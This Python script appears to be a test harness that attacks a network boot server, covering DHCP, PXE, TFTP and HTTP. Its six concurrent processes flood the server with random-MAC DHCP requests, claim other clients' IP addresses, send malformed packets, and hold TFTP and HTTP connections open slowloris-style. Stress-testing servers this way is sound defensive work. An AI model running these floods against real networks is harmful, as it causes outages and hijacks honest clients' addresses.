"""One hostile machine: run in its namespace as ``python attacker.py SERVER VICTIM...`` until it is ended.

Each attack is a process of its own, so that none waits for another. What is sent is bounded a second: the
point is what the server does with it, not how fast this machine is. It uses nothing of coexist, as an
attacker would not.
"""

from __future__ import annotations

import contextlib
import multiprocessing
import os
import random
import signal
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator

DISCOVER, REQUEST = 1, 3
COOKIE = b"\x63\x82\x53\x63"


def dhcp(kind: int, mac: bytes, options: dict[int, bytes], *, ciaddr: str = "0.0.0.0") -> bytes:
    """A DHCP message; long options are split as RFC 3396 says."""
    head = struct.pack("!BBBBIHH", 1, 1, 6, 0, random.getrandbits(32), 0, 0x8000)
    head += socket.inet_aton(ciaddr) + bytes(12) + mac + bytes(10 + 64 + 128)
    area = bytes((53, 1, kind))
    for code, value in options.items():
        for start in range(0, len(value), 255):
            piece = value[start : start + 255]
            area += bytes((code, len(piece))) + piece
    return head + COOKIE + area + b"\xff"


def pace(each_second: int) -> Iterator[None]:
    """So many turns a second, in small bursts."""
    begun, turn = time.monotonic(), 0
    while True:
        turn += 1
        late = begun + turn / each_second - time.monotonic()
        if late > 0.01:
            time.sleep(late)
        yield


def broadcaster() -> socket.socket:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    with contextlib.suppress(OSError):
        sock.bind(("0.0.0.0", 68))
    return sock


def quietly(sock: socket.socket, octets: bytes, to: tuple[str, int]) -> None:
    with contextlib.suppress(OSError):
        sock.sendto(octets, to)


def invent_machines(server: str, victims: list[str]) -> None:
    """Thousands of MACs a second, each with options of its own, large ones among them."""
    sock = broadcaster()
    for _ in pace(4000):
        options = {60: b"PXEClient:Arch:00007:UNDI:003016", 93: b"\0\7", 97: b"\0" + os.urandom(16)}
        if random.random() < 0.1:
            options[random.choice((60, 77, 97, 43, 12))] = b"PXEClient" + os.urandom(900)
        quietly(sock, dhcp(DISCOVER, b"\2" + os.urandom(5), options), (server, 67))


def claim_addresses(server: str, victims: list[str]) -> None:
    """REQUESTs that say the honest clients' addresses are this machine's."""
    sock = broadcaster()
    for _ in pace(100):
        for victim in victims:
            options = {60: b"PXEClient", 93: b"\0\0", 50: socket.inet_aton(victim)}
            quietly(sock, dhcp(REQUEST, b"\2" + os.urandom(5), options), (server, 67))


def ask_to_register(server: str, victims: list[str]) -> None:
    """Every machine that was invented chooses registration in the menu, on port 4011."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _ in pace(500):
        item = b"\x47\x04" + (2).to_bytes(2, "big") + b"\0\0\xff"
        options = {60: b"PXEClient:Arch:00000:UNDI:002001", 93: b"\0\0", 43: item}
        quietly(sock, dhcp(REQUEST, b"\2" + os.urandom(5), options), (server, 4011))


def send_noise(server: str, victims: list[str]) -> None:
    """What is no packet at all, to every port."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _ in pace(1500):
        quietly(sock, os.urandom(random.randrange(1, 1400)), (server, random.choice((67, 69, 4011))))


def hold_transfers(server: str, victims: list[str]) -> None:
    """Read requests without end that are never acknowledged, with tiny blocks and long time-outs."""
    socks: list[socket.socket] = []
    request = b"\0\1kernel\0octet\0blksize\0" + b"8\0timeout\0" + b"255\0"
    for _ in pace(400):
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        quietly(sock, random.choice((request, b"\0\1a\0octet\0", b"\0\1kernel\0octet\0")), (server, 69))
        socks.append(sock)
        if len(socks) > 900:
            socks.pop(0).close()


def hold_connections(server: str, victims: list[str]) -> None:
    """Connections that say nothing, half a request, garbage, or too much."""
    socks: list[socket.socket] = []
    words = (
        b"",
        b"GET /kernel HTTP/1.1\r\nA:",
        b"\x16\x03\x01" * 20 + b"\r\n\r\n",
        b"GET /" + b"a" * 30_000,
        b"POST /kernel HTTP/1.1\r\nContent-Length: 999999999\r\n\r\n",
        b"GET /kernel HTTP/1.1\r\n\r\n",
    )
    for _ in pace(300):
        sock = socket.socket()
        sock.settimeout(0.2)
        with contextlib.suppress(OSError):
            sock.connect((server, 80))
            sock.send(random.choice(words))
        socks.append(sock)
        if len(socks) > 900:
            socks.pop(0).close()


ATTACKS: tuple[Callable[[str, list[str]], None], ...] = (
    invent_machines,
    claim_addresses,
    ask_to_register,
    send_noise,
    hold_transfers,
    hold_connections,
)


def main() -> None:
    server, *victims = sys.argv[1:]
    running = [
        multiprocessing.Process(target=attack, args=(server, victims), daemon=True) for attack in ATTACKS
    ]
    for process in running:
        process.start()
    sys.stdout.write("attacking\n")
    sys.stdout.flush()
    signal.sigwait({signal.SIGTERM, signal.SIGINT})
    alive = [process.is_alive() for process in running]
    sys.stdout.write("all attacks ran to the end\n" if all(alive) else f"attacks that ended early: {alive}\n")
    sys.stdout.flush()
    # They have the signals blocked too: the one to this whole group ends none before it was asked after.
    for process in running:
        process.kill()
    os._exit(0)


if __name__ == "__main__":
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGTERM, signal.SIGINT})
    main()
